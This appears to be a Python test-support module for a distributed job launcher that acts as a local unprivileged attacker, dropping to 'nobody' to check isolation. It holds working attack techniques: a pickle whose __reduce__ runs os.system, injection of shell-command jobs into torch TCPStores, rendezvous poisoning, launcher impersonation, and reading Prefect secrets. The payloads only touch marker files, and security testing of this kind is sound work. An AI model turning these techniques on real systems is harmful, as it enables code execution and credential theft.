"""Programs of another user of the machine: `python -m support.attacker NAME ARGUMENT...`.

They run as `nobody` where the test runs as root; else as this user, without the run's secret. Each prints its result,
or why it has failed.
"""

import base64
import contextlib
import errno
import json
import os
import pickle
import pwd
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from datetime import timedelta
from importlib import import_module
from pathlib import Path

from support.limit import LIMIT_S

from midstride.engine.launch.machines.connections import LauncherConnection, NodeConnections, Plan
from midstride.engine.processes.lifetime import descendants

__all__ = ["Touch", "attack", "listening_ports", "main", "open_meetings", "start_attack"]

_S = 3.0
_POISONED_S = 5.0


class Touch:
    """A pickle that makes a file wherever it is read.

    Args:
        path: of the file.
    """

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        """Return the call that reads of the pickle make."""
        return os.system, (f"touch {self.path}",)


def start_attack(name: str, *arguments: object) -> "subprocess.Popen[str]":
    """Start a program of this module."""
    command = [sys.executable, "-m", "support.attacker", name, *map(str, arguments)]
    path = os.pathsep.join(filter(None, sys.path))
    environment = {**os.environ, "PYTHONPATH": path, "TORCH_CPP_LOG_LEVEL": "FATAL"}
    return subprocess.Popen(
        command,
        env=environment,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )


def attack(name: str, *arguments: object) -> str:
    """Run a program of this module; return what it has printed."""
    process = start_attack(name, *arguments)
    return process.communicate(timeout=LIMIT_S)[0].strip()


def listening_ports(pid: int) -> dict[int, str]:
    """Return the TCP ports at which a process or its descendants listen, each with its address in hexadecimal."""
    sockets = set()
    for process in (pid, *descendants(pid)):
        with contextlib.suppress(OSError):
            for handle in Path(f"/proc/{process}/fd").iterdir():
                with contextlib.suppress(OSError):
                    sockets.add(str(handle.readlink()))
    found = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        rows = [line.split() for line in Path(table).read_text().splitlines()[1:]] if Path(table).exists() else []
        for row in rows:
            if row[3] == "0A" and f"socket:[{row[9]}]" in sockets:
                address, _, port = row[1].rpartition(":")
                found[int(port, 16)] = address
    return found


def rewrite_job(marker: str, *ports: str) -> str:
    """Put another job into the stores at `ports`, whose code makes a file; return at which that was done."""
    from torch.distributed import TCPStore

    done = []
    for port in ports:
        with contextlib.suppress(RuntimeError):
            store = TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=_S))
            found = json.loads(store.get("job")) if store.check(["job"]) else {"job": {}}
            found["job"] |= {"module": "os:system", "module_args": {"command": f"touch {marker}"}}
            store.set("job", json.dumps(found))
            done.append(port)
    return " ".join(done)


def poison_rendezvous(marker: str, *ports: str) -> str:
    """Put a pickle in place of the state of torchrun's rendezvous at each of `ports`; return where that was done."""
    from torch.distributed import TCPStore

    done: list[str] = []

    def poison(port: str) -> None:
        with contextlib.suppress(RuntimeError):
            store = TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=_S))
            for run_id in ("control", *_run_ids()):
                state = base64.b64encode(pickle.dumps(Touch(marker))).decode()
                store.set(f"torch.rendezvous.{run_id}", state)
            done.append(port)

    tries = [threading.Thread(target=poison, args=(port,), daemon=True) for port in ports]
    for one in tries:
        one.start()
    until = time.monotonic() + _POISONED_S  # what is no store may let a client wait
    for one in tries:
        one.join(max(0.0, until - time.monotonic()))
    return " ".join(done) or "none"


def open_meetings() -> str:
    """Return how many files without a name could be opened, of all processes of this machine."""
    opened = set()
    for handle in Path("/proc").glob("[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            if "memfd:midstride" in str(handle.readlink()):
                with handle.open("r+b") as file:
                    opened.add(os.fstat(file.fileno()).st_ino)
    return str(len(opened))


def _run_ids() -> list[str]:
    """Return what commands of this machine name as their rendezvous."""
    commands = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            commands.append(path.read_bytes().decode(errors="replace"))
    return re.findall(r"--rdzv-id=(\w+)", "\n".join(commands))


def guess_secret(port: str) -> str:
    """Speak as a node does, with a secret of one's own."""
    return str(LauncherConnection("127.0.0.1", int(port), "a" * 64).introduce("evil", 1))


def be_launcher(port: str, marker: str) -> str:
    """Listen where a launcher did, and tell every node that comes to make a file."""
    document = {"job": {"module": "os:system", "module_args": {"command": f"touch {marker}"}}, "store_port": 1}
    connections = NodeConnections(_taken(int(port)), "a" * 64, document)
    connections.publish(Plan(over=0))
    print("listens", flush=True)
    sys.stdin.read()
    return "done"


def _taken(port: int) -> socket.socket:
    """Listen at `port` as soon as processes of the killed launcher have left it."""
    deadline = time.monotonic() + LIMIT_S
    while True:
        try:
            return socket.create_server(("127.0.0.1", port))
        except OSError as error:
            if error.errno != errno.EADDRINUSE or time.monotonic() > deadline:
                raise
        time.sleep(0.05)


def read_prefect(address: str) -> str:
    """Read the secrets that are kept on a Prefect server, and pause its scheduling."""

    def ask(path: str, body: object) -> object:
        data = json.dumps(body).encode()
        request = urllib.request.Request(f"{address}/{path}", data, {"Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=LIMIT_S) as answer:
            return json.loads(answer.read())

    blocks = ask("block_documents/filter", {"include_secrets": True})
    return json.dumps(blocks)


def _import_all(name: str) -> None:
    """Import all that a program needs, by using it once."""
    if name in ("rewrite_job", "poison_rendezvous"):
        import_module("torch.distributed")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        connections = NodeConnections(listener, "b" * 64, {})
        LauncherConnection("127.0.0.1", listener.getsockname()[1], "b" * 64).introduce("a", 1)
        connections.close()


def main() -> None:
    """Be the attacker that the command line names."""
    name, *arguments = sys.argv[1:]
    _import_all(name)  # before the change of user, who may not read this environment
    if os.geteuid() == 0:
        nobody = pwd.getpwnam("nobody")
        os.setgroups([])
        os.setgid(nobody.pw_gid)
        os.setuid(nobody.pw_uid)
    try:
        print(globals()[name](*arguments), flush=True)
    except Exception as error:
        print(f"failed: {type(error).__name__}: {error}".splitlines()[0], flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
